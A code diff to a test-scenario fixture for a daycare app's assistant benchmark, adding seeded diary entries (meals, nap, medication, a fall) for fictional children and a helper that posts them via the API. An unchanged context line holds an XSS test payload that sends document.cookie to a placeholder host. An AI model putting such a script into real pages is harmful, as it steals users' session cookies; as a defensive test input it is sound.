@@ -6,9 +6,12 @@
  * (targets) and by `npm run bench:lumi` (figures in docs/benchmarks.md).
  * The format of the sets and the scenario are described in README.md beside this file.
  */
+import crypto from 'node:crypto';
 import sharp from 'sharp';
-import { cpfFromBase, type IdiomaLumi, type MotivoEncaminhamento, type RespostaLumi } from '@lunna/contract';
+import { eq } from 'drizzle-orm';
+import { cpfFromBase, type DetalhesRegistro, type IdiomaLumi, type MotivoEncaminhamento, type RespostaLumi } from '@lunna/contract';
 import { addDaysTo, instantAt, localDate } from '../../../lib/school-time';
+import { diarioRegistro, turmaDiscente } from '../../../db/schema';
 import { TestClient } from '../../../test/http-client';
 import { seededWeek } from '../../../test/school-calendar';
 import type { TestApp } from '../../../test/test-app';
@@ -169,6 +172,30 @@ export const CENARIO = {
         "<script>fetch('https://exemplo.invalid/roubar?c='+document.cookie)</script>",
     },
   ],
+  /**
+   * The children's diary this morning, as the educators recorded it: Theo's breakfast and nap (Ana), Sofia's
+   * Vitamina D, a fall and her lunch (Bruno). Lucas, Alice and Davi have no entry: their diary questions are
+   * answered as "nothing recorded yet". `hora` is when it happened; a nap's `fim` its end.
+   */
+  diario: [
+    { crianca: 'theo', por: EMAIL.ana, hora: '08:00', detalhes: { tipo: 'refeicao', refeicao: 'cafe_manha', quantidade: 'metade', recusou: 'mamão' } },
+    { crianca: 'theo', por: EMAIL.ana, hora: '08:10', fim: '08:50', detalhes: { tipo: 'sono' } },
+    { crianca: 'sofia', por: EMAIL.bruno, hora: '09:30', detalhes: { tipo: 'medicacao', medicamento: 'Vitamina D', dose: 2, unidade: 'gotas' } },
+    {
+      crianca: 'sofia',
+      por: EMAIL.bruno,
+      hora: '10:05',
+      detalhes: {
+        tipo: 'incidente',
+        incidente: 'queda',
+        descricao: 'Tropeçou no tapete e ralou o joelho',
+        local: 'Sala Beija-flor',
+        primeirosSocorros: 'Joelho lavado com soro e compressa fria',
+        grave: false,
+      },
+    },
+    { crianca: 'sofia', por: EMAIL.bruno, hora: '10:25', detalhes: { tipo: 'refeicao', refeicao: 'almoco', quantidade: 'quase_tudo', recusou: 'brócolis' } },
+  ] satisfies { crianca: string; por: string; hora: string; fim?: string; detalhes: DetalhesRegistro }[],
   /** Mariana has read this seeded notice; the others addressed to her stay unread. */
   avisoLido: { por: EMAIL.mariana, tituloAviso: 'Reunião de pais' },
   enquete: {
@@ -436,8 +463,43 @@ export async function prepararCenario(t: TestApp): Promise<Cenario> {
   if (!aviso) throw new Error(`the notice "${lido.tituloAviso}" is missing`);
   await ok('mark read', who(lido.por).put(`/api/aviso/${aviso.idAviso}/leitura`, { lido: true }));
 
+  // The diary entries are written as the bulk entry stores them (one row per child and entry).
+  await at('10:25');
+  const turmaDe = async (idDisc: string) => {
+    const [row] = await t.database.db.select({ id: turmaDiscente.turmaId }).from(turmaDiscente).where(eq(turmaDiscente.discenteId, idDisc));
+    return row!.id;
+  };
+  await registrarDiario(t, hoje, kid, who, turmaDe);
+
   await at(CENARIO.horaPerguntas);
   return { hoje, semana, criancas, condicoes: { fotos_do_dia: fotosDoDia } };
+}
+
+/**
+ * The educators write the scenario's diary through the bulk entry (one request per entry: one child each).
+ * The demo seed writes the Girassol class's diary for the real date and the school day before it: on the
+ * scenario's day the diary is only the scenario's, whatever the real date.
+ */
+async function registrarDiario(
+  t: TestApp,
+  hoje: string,
+  kid: (key: string) => string,
+  who: (email: string) => TestClient,
+  turmaDe: (idDisc: string) => Promise<string>,
+) {
+  await t.database.db.delete(diarioRegistro).where(eq(diarioRegistro.data, hoje));
+  for (const r of CENARIO.diario) {
+    const idDisc = kid(r.crianca);
+    const detalhes: DetalhesRegistro =
+      r.detalhes.tipo === 'sono' && 'fim' in r && r.fim ? { ...r.detalhes, fim: instantAt(hoje, r.fim, TZ).toISOString() } : r.detalhes;
+    await ok(
+      `diary of ${r.crianca} at ${r.hora}`,
+      who(r.por).post(`/api/turma/${await turmaDe(idDisc)}/diario`, {
+        chave: crypto.randomUUID(),
+        registros: [{ idDisc, registro: { ocorridoEm: instantAt(hoje, r.hora, TZ).toISOString(), detalhes } }],
+      }),
+    );
+  }
 }
 
 // ---------------------------------------------------------------------------------------------------
